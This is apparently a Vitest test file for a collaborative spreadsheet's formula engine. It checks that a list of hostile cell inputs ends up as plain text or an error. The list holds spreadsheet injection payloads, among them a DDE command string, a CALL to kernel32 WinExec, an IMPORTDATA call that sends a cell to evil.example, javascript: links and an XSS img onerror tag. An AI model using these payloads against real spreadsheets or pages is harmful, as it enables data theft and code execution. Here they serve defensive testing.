import { expect, test } from "vitest";
import * as Y from "yjs";
import { Book } from "@/lib/formulas/book";
import { FormulaError } from "@/lib/formulas/values";
import { readCell } from "@/lib/kinds/sheet/cell";
import { editCells } from "@/lib/kinds/sheet/edit";
import { currentFormula, formulaBook } from "@/lib/kinds/sheet/layout";
import { shownText, storedInput } from "./shown";

const HOSTILE: readonly (readonly [string, string | RegExp])[] = [
  ['=HYPERLINK("javascript:alert(1)")', "javascript:alert(1)"],
  ['=HYPERLINK("javascript:alert(1)","Pay here")', "Pay here"],
  ['=IMPORTXML("https://evil.example","//a")', "#NAME?"],
  ['=IMPORTDATA("https://evil.example/?"&A1)', "#NAME?"],
  ['=IMAGE("https://evil.example/pixel.png")', /^#/],
  ['=WEBSERVICE("https://evil.example")', /^#/],
  ["=cmd|'/c calc'!A0", /^#/],
  ['=CALL("kernel32","WinExec")', "#NAME?"],
  ["<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"],
  ["@SUM(1)", /./],
  ["\u0000\u0001\u001b[2J", "\u0000\u0001\u001b[2J"],
  ["\u202egnp.exe", "\u202egnp.exe"],
  ["\ud800", "\ufffd"],
  ["x".repeat(60_000), "x".repeat(50_000)],
  [`=${"(".repeat(9_000)}1`, /^#/],
  ['=REPT("x",1E9)', /^#/],
];

test.each(HOSTILE)("hostile text %j is a text or an error, and nothing else", (typed, wanted) => {
  const doc = new Y.Doc();
  const { value } = storedInput(typed, "en-US");
  editCells({ doc, sheet: "default" }, [{ row: 0, column: 1, value }]);
  const cell = readCell(doc.getMap("cells").get("0:1"));
  const text = cell ? currentFormula(formulaBook(doc), "default", cell) : "";
  const book = new Book({ now: () => 45_000, random: () => 0.5 });
  const sheet = book.addSheet("Sheet1");
  book.edit(() => {
    try {
      book.setInput(sheet, 0, 1, text);
    } catch {
      book.setBroken(sheet, 0, 1);
    }
  });
  const found = book.get(sheet, 0, 1);
  const shown =
    found instanceof FormulaError ? found.code : shownText({ value: found }, "General", "en-US");
  if (typeof wanted === "string") expect(shown).toBe(wanted);
  else expect(shown).toMatch(wanted);
});
